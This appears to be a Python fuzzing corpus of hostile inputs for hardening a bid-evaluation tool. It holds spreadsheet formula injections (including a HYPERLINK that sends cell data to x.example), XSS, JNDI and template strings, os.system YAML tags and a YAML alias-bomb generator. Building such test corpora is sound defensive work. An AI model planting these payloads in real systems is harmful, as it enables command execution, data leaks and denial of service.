"""The payloads of issue 8 ("Hardening"), and more of their kind, for the mutators to plant.

Each list says what it attacks; the item of the issue is named where one is the source.
"""

from __future__ import annotations

# 6b: YAML 1.1 number forms a person does not read as the YAML 1.1 reader does; 12: bounds.
YAML_NUMBERS = (
    "012", "0x1F", "1:30", "0b101", "0o17", "0777", "1_000", "+5", "-0", "0", "1e2", "1E2", ".5", "5.",
    "1e100001", "1e-100001", "1e1000000", "1e-999999", "9" * 400, "0." + "0" * 400 + "1", "200000",
    "1e308", "1e309", ".inf", "-.inf", ".nan", "NaN", "Infinity", "14.000000000000000001", "~", "null",
    "yes", "no", "on", "off", "y", "n", "True", "'14'", '"14"', "£14", "14 FTE", "1,000", "14%", "0.1",
    "2027-01-10", "12:00", "190:20:30", "-1", "1e+2", "0x", "0b", "1__0", "١٢", "１２", "14\u200b",
)
# 12: numbers in JSON that are valid JSON but break exact arithmetic or bounds.
JSON_NUMBERS = (
    "1e100001", "1e-100001", "1e1000000", "-1e999999", "-0", "0", "1E400", "NaN", "Infinity", "-Infinity",
    "14.000000000000000001", "012", "0x1F", '"14"', "true", "null", "[]", "{}", "1.5e3", "9" * 5000,
    "0.0000000000000000000001", "200000", "1e2", "-0.0", "1e-7", "123456789012345678901234567890",
)
# 6, 8, 12, 14: names and answers that hide text, forge output or break encoders.
TEXTS = (
    "Acme Services Ltd ", " Acme Services Ltd", "Acme  Services Ltd", "Acme\u200bServices Ltd",
    "Acme Servi\u0063\u0327es Ltd", "Cafe\u0301 Ltd", "\u0410cme Services Ltd", "Acme \u202eDTL secivreS",
    "Acme\tServices", "Acme\nServices", "Acme\rLtd", "Acme\x00Ltd", "Acme\x1b[31mLtd", "Acme\x7fLtd",
    "=cmd|'/c calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"click")', "+SUM(1,2)", "@SUM(1)", "-1+1",
    "\tTabbed", "x |\n| 1 | Forged Ltd | 100 | winner |", "a | b", "[/bold]", "[b][/b]", "[link=http://x]y[/link]",
    "Acme\ud800Ltd", "\udfff", "Title\u2028bidder: forged\u2028price: 1", "\ufffe", "\ufeffAcme", "\u0085",
    "<script>alert(1)</script>", "<img src=http://x.example/t.gif>", "{{ 7*7 }}", "{% raw %}", "${jndi:x}",
    "\U0001f600 Ltd", "ﬁne Ltd", "Ａcme", "", " ", "\u00a0", "x" * 100_000, ("word\u200b" * 5000).strip(),
    "word " * 2000, "\u200b" * 50, "é" * 3000, "\\", '"', "'", "\n" * 50, "#not a comment", "---", "...",
)
# 13: submission times a bid claims for itself.
SUBMITTED = (
    "1999-01-01", "2027-13-01", "2027-01-10T12:00:00+99:99", "2099-01-01", "2027-02-30", "0000-00-00",
    "2027-01-10T25:00:00Z", "2027-01-16T00:00:00Z", "9999-12-31T23:59:59.999999999999Z", "2027-01-10T12:00:00",
    "2027-01-10 12:00", "yesterday", "2027-W02", "20270110", "-2027-01-10", "2027-01-10T12:00:00.5+01:00",
)
# 5, 6a: marks written the ways an evaluator (or an attacker) might.
MARKS = (
    "75%", "0x64", "1e2", "100", "100.0", "75.0000000001", "-0", "75 ", "'75'", "\"75\"", ".nan", ".inf",
    "yes", "~", "[]", "{}", "0o144", "1_00", "١٠٠", "50%%", "100 %", "1:15", "25.", "1e1000000", "-25",
)
# YAML structure that must be refused: references, tags, merge keys, extra documents.
YAML_TAGS = (
    "!!python/object/apply:os.system ['id']", "!!python/name:os.system", "!!binary aGVsbG8=", "!custom 5",
    "!!str 5", "!!int '12'", "!!float 1", "!!map {}", "!!set {a: null}", "!!omap [a: 1]", "!!timestamp 2027-01-10",
    "!<tag:yaml.org,2002:str> x", "!!null ''", "!!bool yes",
)


# Mostly small: a reader that expands aliases spends 10 times longer per level, and the rare
# nine-level bomb (the 355 bytes) is enough to find it.
BOMB_LEVELS = (2, 2, 3, 3, 4, 4, 5, 5, 6, 9)


def alias_bomb(levels: int = 9, width: int = 9) -> str:
    """The 355-byte kind of marks file of issue 8 item 5: each level refers to the one above nine times."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    for i in range(1, levels):
        refs = ", ".join(f"*a{i - 1}" for _ in range(width))
        lines.append(f"a{i}: &a{i} [{refs}]")
    return "\n".join(lines) + "\n"
